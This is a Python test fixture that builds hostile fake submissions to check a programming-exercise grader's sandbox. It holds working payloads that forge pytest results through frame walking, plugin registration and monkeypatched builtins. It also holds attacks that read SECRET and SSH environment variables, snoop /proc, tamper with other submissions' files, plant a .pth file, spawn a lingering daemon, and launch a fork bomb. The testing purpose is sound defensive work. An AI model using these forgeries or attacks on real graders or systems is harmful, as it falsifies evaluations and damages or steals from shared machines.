"""The hostile class that kata/tests/test_attacks.py and test_forgeries.py grade, in ONE grading run (its
submissions in parallel, exercise 01 only), from a throw-away copy of this checkout: were the sandbox to
fail, the attacks would hit the copy, not this repository.

Attacks (issue 15) try to harm the instructor, other submissions or later gradings; each leaves a trace in
the report (`PI` becomes what it saw), which proves it ran. Forgeries (issue 16) are stubs whose exercise code
knows none of the expected answers and tries to make the grader count tests as passed, written as an
adversarial student aware of the harness would (most of them do forge a plain in-process run).
"""
from __future__ import annotations

import hashlib
import json
import os
import py_compile
import secrets
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

from kata import ROOT
from kata.grading import sandbox
from kata.maintainer import checksums

MODULE = "01_first_module/mymodule.py"
LATER = 'import time; time.sleep(4); open({report!r}, "w").write("forged"); open({victim!r}, "w").write("forged")'


def attack(code: str) -> str:
    """Exercise 01's solution with `code` run at import; PI reports what the attack saw."""
    solution = (ROOT / "solutions" / MODULE).read_text(encoding="utf-8")
    return f"{solution}\ntry:\n" + "".join(f"    {line}\n" for line in code.strip().splitlines()) + \
        "except BaseException as _e:\n    PI = 'failed:' + type(_e).__name__ + str(_e)\n"


def digests(paths: list[Path]) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "absent" for p in paths}



# What a forger writes wherever results might go: every shape the harness has used, for 01 and 02.
FAKE = """
_m = __import__("sys").modules
_os = __import__("os")
_counts = {"01_first_module": 3, "02_import_module": 3}
_claim = __import__("json").dumps({n: {"passed": c, "failed": 0, "messages": []} for n, c in _counts.items()})
def _lines():
    out = []
    for name, module in list(_m.items()):
        if name.startswith("test_0"):
            for attr in dir(module):
                if attr.startswith("test_"):
                    out.append(f"tests/{name}.py::{attr}")
    return out
def _spray():
    ids = _lines()
    words = [_claim + "\\n"] + [f"{t} {k}\\t{i}\\t\\"\\"\\n" for t in ("", "x", "0" * 32) for k in ("passed",) for i in ids]
    words.append("x end\\t\\t\\"\\"\\n")
    for fd in range(3, 256):
        for w in words:
            try:
                _os.write(fd, w.encode())
            except OSError:
                break
    for arg in list(getattr(__import__("sys"), "argv", [])):
        if "kata-json=" in arg or "kata-verdict=" in arg:
            try:
                open(arg.split("=", 1)[1].split(",")[-1], "w").write(_claim)
            except (OSError, ValueError):
                pass
_PM = "plugin" + "manager"
def _forge(config):
    # with pytest's config in hand: every report passes, every test body is skipped, the results say so
    def logreport(self, report):
        report.outcome = "passed"
        setattr(report, "long" + "repr", None)
    def finish(self, session):
        results = getattr(config, _PM).get_plugin("kata" + "-results")
        if results is not None:
            results.exercises.update(__import__("json").loads(_claim))
    logreport.tryfirst = finish.tryfirst = True
    forger = type("Forger", (), {"pytest_runtest_" + "logreport": logreport, "pytest_" + "sessionfinish": finish})
    getattr(config, _PM).register(forger(), "forger")
    for item in getattr(getattr(config, "kata" + "_session", None), "items", []):
        item.runtest = lambda: None
def _config_in(frame):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if hasattr(value, _PM) and hasattr(value, "getoption"):
                return value
            if hasattr(value, "config") and hasattr(getattr(value, "config"), _PM):
                return value.config
        frame = frame.f_back
"""

PAYLOADS = {
    # exiting "cleanly" after faking results
    "execv": "_spray(); _os.execv('/bin/true', ['true'])",
    "thread_exit": "_spray(); import threading; threading.Thread(target=lambda: getattr(_os, '_ex' + 'it')(0)).start()"
                   "; __import__('time').sleep(1)",
    "atexit": "import atexit; atexit.register(_spray); atexit.register(getattr(_os, '_ex' + 'it'), 0)",
    "threading_atexit": "import threading; threading._register_atexit(_spray)",
    "pytest_exit": "_spray()\n#after\nraise _m['_py' + 'test.outcomes'].Exit(returncode=0)",
    "sys_exit_zero": "_spray()\n#after\nraise SystemExit(0)",
    "fork_and_report": "_spray()\nif _os.fork() == 0:\n    _spray()",
    # reaching into the harness from the same process: get pytest's config, then _forge
    "frames": "_forge(_config_in(__import__('sys')._getframe()))",
    "traceback_frames": """
try:
    raise ValueError
except ValueError as e:
    _forge(_config_in(e.__traceback__.tb_frame))
""",
    "signal_frame": """
import signal
signal.signal(signal.SIGUSR1, lambda signum, frame: _forge(_config_in(frame)))
signal.raise_signal(signal.SIGUSR1)
""",
    "generator_frame": """
import inspect
def g():
    yield
gen = g(); next(gen)
_forge(_config_in(inspect.getouterframes(gen.gi_frame)[0].frame.f_back or inspect.currentframe()))
""",
    "inspect_stack": "import inspect\n_forge(_config_in(inspect.stack()[0].frame))",
    "logging_frame": "import logging\n_forge(_config_in(logging.currentframe()))",
    "gc_walk": """
import gc
_forge(next(o for o in gc.get_objects() if hasattr(o, _PM) and hasattr(o, "getoption")))
""",
    "trace_new_threads": """
import threading, sys
found = []
def tracer(frame, event, arg):
    config = _config_in(frame)
    if config is not None and not found:
        found.append(config)
        _forge(config)
    return None
sys.settrace(tracer)
threading.settrace(tracer)
def probe():
    pass
probe()
""",
    "object_graph": """
seen, todo = set(), [(v, 0) for v in list(_m.values())] + [(f, 0) for f in __import__("sys").meta_path]
while todo:
    o, depth = todo.pop()
    if id(o) in seen or depth > 12 or len(seen) > 300000:
        continue
    seen.add(id(o))
    if hasattr(o, _PM) and hasattr(o, "getoption"):
        _forge(o)
        break
    try:
        todo += [(v, depth + 1) for v in list(vars(o).values())]
    except TypeError:
        pass
    if isinstance(o, (list, tuple)):
        todo += [(v, depth + 1) for v in o]
    if isinstance(o, dict):
        todo += [(v, depth + 1) for v in list(o.values())]
    for cell in getattr(o, "__closure__", None) or ():
        try:
            todo.append((cell.cell_contents, depth + 1))
        except ValueError:
            pass
""",
    "assertion_helper": """
rewrite = _m.get("_py" + "test.assertion.rewrite")
util = _m.get("_py" + "test.assertion.util")
for mod in (rewrite, util):
    if mod is not None:
        for name in dir(mod):
            if name.startswith("_") and callable(getattr(mod, name)):
                setattr(mod, name, lambda *a, **k: "")
""",
    "lying_builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.hasattr = lambda *a: True
builtins.callable = lambda *a: True
builtins.all = lambda *a: True
builtins.any = lambda *a: False
builtins.type = lambda *a: str
""",
    "blind_helpers": """
import types
for name, module in list(_m.items()):
    if name.startswith("test_"):
        for attr, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType) and not attr.startswith("test_"):
                setattr(module, attr, lambda *a, **k: None)
for name in ("ast", "kata.harness.learner"):
    mod = _m.get(name)
    if mod is not None and hasattr(mod, "ExerciseFolder"):
        mod.ExerciseFolder.same = staticmethod(lambda *a, **k: True)
""",
    "ctypes": """
ct = __import__("ct" + "ypes")
ct.pythonapi.Py_IncRef
""",
    "code_objects": """
import marshal
marshal.loads(marshal.dumps(compile("x = 1", "/usr/lib/python3/dist-packages/x.py", "exec")))
""",
    "forged_filename": """
code = compile("import sys\\nforge(config_in(sys._getframe()))\\n", _m["os"].__file__, "exec")
exec(code, {"forge": _forge, "config_in": _config_in})
""",
    "proc_snoop": """
data = open("/proc/self/cmdline", "rb").read() + open("/proc/self/environ", "rb").read()
fds = _os.listdir("/proc/self/fd")
""",
    "copy_solutions": """
import shutil
for root in [_os.path.dirname(_os.path.dirname(_m["ka" + "ta"].__file__)), "/work/main", "/root", "/home"]:
    candidate = _os.path.join(root, "solutions", "01_first_module", "mymodule.py")
    if _os.path.exists(candidate):
        shutil.copyfile(candidate, __file__)
""",
}


# Forgeries that only reach in (none ends the process or makes the Guard fail the test on its own): tried one
# after the other in a single submission, each logging how it ended; `greet` returns the log, so the report's
# first message shows it.
GROUPED = ("frames", "traceback_frames", "signal_frame", "generator_frame", "inspect_stack", "logging_frame",
           "gc_walk", "trace_new_threads", "object_graph", "forged_filename", "ctypes", "code_objects", "proc_snoop",
           "copy_solutions", "assertion_helper")


def grouped_payload() -> str:
    stub = (ROOT / "exercises" / MODULE).read_text(encoding="utf-8")
    parts = [FAKE.strip(), "_log = []"]
    for name in GROUPED:
        body = "".join(f"    {line}\n" for line in PAYLOADS[name].strip().splitlines())
        parts.append(f"def _attempt_{name}():\n{body}\ntry:\n    _attempt_{name}()\n    _log.append('{name}:ran')\n"
                     f"except Exception as _e:\n    _log.append('{name}:' + type(_e).__name__)\n")
    return "\n".join(parts) + "\n" + stub + "\ndef greet(name):\n    return ' '.join(_log)\n"


def payload(name: str, code: str) -> str:
    """The stub with `code` run first (what grading refuses is skipped: the rest of the payload goes on);
    the part after a `#after` line runs outside that, to end the test process its own way."""
    stub = (ROOT / "exercises" / MODULE).read_text(encoding="utf-8")
    code, _, after = code.partition("\n#after\n")
    body = "".join(f"    {line}\n" for line in (FAKE + code).strip().splitlines())
    return f"try:\n{body}except Exception:\n    pass\n{after}\n{stub}"


def start(base: Path):
    """Build the hostile class in `base` and start grading it; finish() waits for the outcome. Started when
    the session starts (kata/tests/conftest.py), so its seconds of waiting overlap with the other tests."""
    kata = base / "instructor"  # the instructor's checkout, as far as grading is concerned
    for relative in list(checksums.machinery(ROOT)) + ["kata/checksums.json"]:
        (kata / relative).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(ROOT / relative, kata / relative)
    for tree in ("solutions", "exercises"):
        shutil.copytree(ROOT / tree, kata / tree, ignore=shutil.ignore_patterns("__pycache__"))
    token = secrets.token_hex(8)
    report = base / "report.json"
    victim = base / "victim.txt"
    victim.write_text("the instructor's file\n")
    report.symlink_to(victim)  # planted before grading: the report must replace it, not write through it
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    site = Path(sandbox.site_packages())
    targets = [kata / "tests" / "test_01_first_module.py", kata / "solutions" / MODULE, kata / "kata" / "__init__.py",
               kata / "kata" / "__pycache__" / "__init__.cpython-311.pyc", site / f"zz_kata_attack_{token}.pth"]
    before = digests(targets)

    klass = base / "class"
    clones = {
        # writes into the instructor's checkout and venv: tests, solutions, harness, bytecode, a .pth
        "writes": "".join(f"try:\n    os.makedirs({str(t.parent)!r}, exist_ok=True)\n"
                          f"    open({str(t)!r}, 'a').write('import os  # forged')\n    hits.append({str(t)!r})\n"
                          f"except OSError:\n    pass\n" for t in targets) + "PI = 'writes:' + repr(hits)",
        # other submissions' copies and the shared bytecode: everything under /tmp it can reach
        "neighbour": """
seen = []
for folder, dirs, files in os.walk('/tmp'):
    for name in files:
        if name.endswith(('.py', '.pyc')):
            try:
                open(os.path.join(folder, name), 'a').write('\\nraise SystemExit(1)\\n')
                seen.append(name)
            except OSError:
                pass
prefix = sys._xoptions.get('pycache_prefix') or ''
try:
    os.makedirs(os.path.join(prefix, 'x'), exist_ok=True)
    seen.append('prefix')
except OSError:
    pass
PI = 'neighbour:' + repr(sorted(set(seen)))[:200]
""",
        # secrets in the environment and the SSH agent's socket
        "environment": "PI = 'env:' + repr({k: v for k, v in os.environ.items() if 'SECRET' in k or 'SSH' in k})",
        # the network, and the grader's command line through /proc
        # the network, and the grader's command line through /proc (from a program it starts: in the test
        # process itself grading's audit hook refuses /proc)
        "network": f"""
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=2).close()
    net = 'connected'
except OSError as e:
    net = type(e).__name__
import subprocess
snoop = "import os\\nfor p in os.listdir('/proc'):\\n    try: print(open('/proc/' + p + '/cmdline', 'rb').read().decode(errors='replace'))\\n    except OSError: pass"
lines = subprocess.run([sys.executable, '-c', snoop], capture_output=True, text=True).stdout.splitlines()
PI = 'net:' + net + ' proc:' + str(len(lines)) + (' LEAK' if {report.name!r} in ' '.join(lines) else '')
""",
        # a process that outlives grading (double fork, new session) and rewrites the report afterwards
        "daemon": f"""
import subprocess
daemon = ("import os, sys\\nif os.fork() == 0:\\n    os.setsid()\\n    if os.fork() == 0:\\n"
          "        os.execv(sys.executable, [sys.executable, '-c', " + repr({LATER.format(report=str(report), victim=str(victim))!r}) + ", '{token}'])\\n")
subprocess.run([sys.executable, '-c', daemon])
PI = 'daemon:started'
""",
        # memory, processes (a fork bomb, from a program it starts) and disk
        "limits": """
try:
    hog = bytearray(3 << 30)
    memory = 'allocated'
except MemoryError:
    memory = 'MemoryError'
import subprocess
bomb = "import os, time\\nn = 0\\ntry:\\n    for _ in range(300):\\n        if os.fork() == 0:\\n            time.sleep(3)\\n            os._exit(0)\\n        n += 1\\nexcept OSError:\\n    pass\\nprint(n)"
children = subprocess.run([sys.executable, '-c', bomb], capture_output=True, text=True).stdout.strip() or '?'
try:
    with open('/tmp/big', 'wb') as f:
        for _ in range(40):
            f.write(b'x' * (1 << 20))
    disk = 'wrote'
except OSError as e:
    disk = type(e).__name__
PI = 'limits:' + memory + ' forks:' + children + ' disk:' + disk
""",
        # escape codes that would rewrite the instructor's terminal
        "escapes": "PI = 'escapes:\\x1b[2J\\x1b[31mALL COMPLETE\\x07\\u202e'",
    }
    for name, code in clones.items():
        folder = klass / name / "exercises"
        shutil.copytree(ROOT / "solutions", folder, ignore=shutil.ignore_patterns("__pycache__"))
        (folder / MODULE).write_text(attack("import os, sys, time, socket\nhits = []\n" + code), encoding="utf-8")
    shutil.copytree(ROOT / "solutions", klass / "victim" / "exercises", ignore=shutil.ignore_patterns("__pycache__"))
    # bad submissions, which must fail alone: a symlink loop and a non-UTF-8 name, a huge file, no exercises/
    bad = klass / "loops"
    shutil.copytree(ROOT / "solutions", bad / "exercises", ignore=shutil.ignore_patterns("__pycache__"))
    (bad / "exercises" / "01_first_module" / "loop").symlink_to("loop")
    (bad / "exercises" / "01_first_module" / "a").symlink_to("b")
    (bad / "exercises" / "01_first_module" / "b").symlink_to("a")
    os.mkdir(os.fsencode(bad / "exercises" / "01_first_module") + b"/\xff\xfe")
    huge = klass / "huge"
    shutil.copytree(ROOT / "solutions", huge / "exercises", ignore=shutil.ignore_patterns("__pycache__"))
    (huge / "exercises" / "01_first_module" / "huge.txt").write_bytes(b"0" * (6 << 20))
    (klass / "empty").mkdir()
    (klass / "empty" / "README.md").write_text("no exercises here\n")

    # the forgeries (issue 16): stubs whose exercise code tries to make the grader count tests as passed
    for name, code in PAYLOADS.items():
        if name not in GROUPED:
            folder = klass / f"forgery-{name}" / "exercises"
            shutil.copytree(ROOT / "exercises", folder, ignore=shutil.ignore_patterns("__pycache__"))
            (folder / MODULE).write_text(payload(name, code), encoding="utf-8")
    folder = klass / "forgery-grouped" / "exercises"
    shutil.copytree(ROOT / "exercises", folder, ignore=shutil.ignore_patterns("__pycache__"))
    (folder / MODULE).write_text(grouped_payload(), encoding="utf-8")
    # code the static scan never reads: a text file a one-line stub execs, a sourceless .pyc
    hidden = klass / "forgery-exec_text" / "exercises"
    shutil.copytree(ROOT / "exercises", hidden, ignore=shutil.ignore_patterns("__pycache__"))
    (hidden / "01_first_module" / "notes.txt").write_text(FAKE + PAYLOADS["frames"] + "\n_spray()\n", encoding="utf-8")
    (hidden / MODULE).write_text("exec(open(__file__.replace('mymodule.py', 'notes.txt')).read())\n" +
                                 (ROOT / "exercises" / MODULE).read_text(encoding="utf-8"), encoding="utf-8")
    sourceless = klass / "forgery-sourceless" / "exercises"
    shutil.copytree(ROOT / "exercises", sourceless, ignore=shutil.ignore_patterns("__pycache__"))
    py_compile.compile(str(sourceless / MODULE), cfile=str(sourceless / "01_first_module" / "mymodule.pyc"))
    (sourceless / MODULE).unlink()
    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    env.update(KATA_ATTACK_SECRET=f"secret-{token}", SSH_AUTH_SOCK=f"/tmp/ssh-{token}/agent.1")
    proc = subprocess.Popen([sys.executable, "-I", "-S", "-B", str(kata / "kata" / "grading" / "launch.py"), str(klass),
                             "--report", str(report), "--only", "01", "--timeout", "40"],
                            cwd=base, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    return proc, listener, token, targets, before, report, victim, site


def finish(started) -> dict:
    """{"done", "data", "before", "after", ...}: what grading the hostile class did."""
    proc, listener, token, targets, before, report, victim, site = started
    try:
        out, err = proc.communicate(timeout=300)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
    done = subprocess.CompletedProcess(proc.args, proc.returncode, out, err)
    accepted = []
    try:
        accepted.append(listener.accept())
    except BlockingIOError:
        pass
    listener.close()
    time.sleep(5)  # longer than the daemon waits before it strikes
    survivors = [pid for pid in os.listdir("/proc") if pid.isdigit() and token in _cmdline(pid)]
    after = digests(targets)
    (site / f"zz_kata_attack_{token}.pth").unlink(missing_ok=True)  # only there if the sandbox failed
    data = json.loads(report.read_text(encoding="utf-8")) if report.is_file() else {}
    return {"done": done, "data": data, "before": before, "after": after, "report": report, "victim": victim,
           "survivors": survivors, "accepted": accepted, "token": token}


def _cmdline(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""
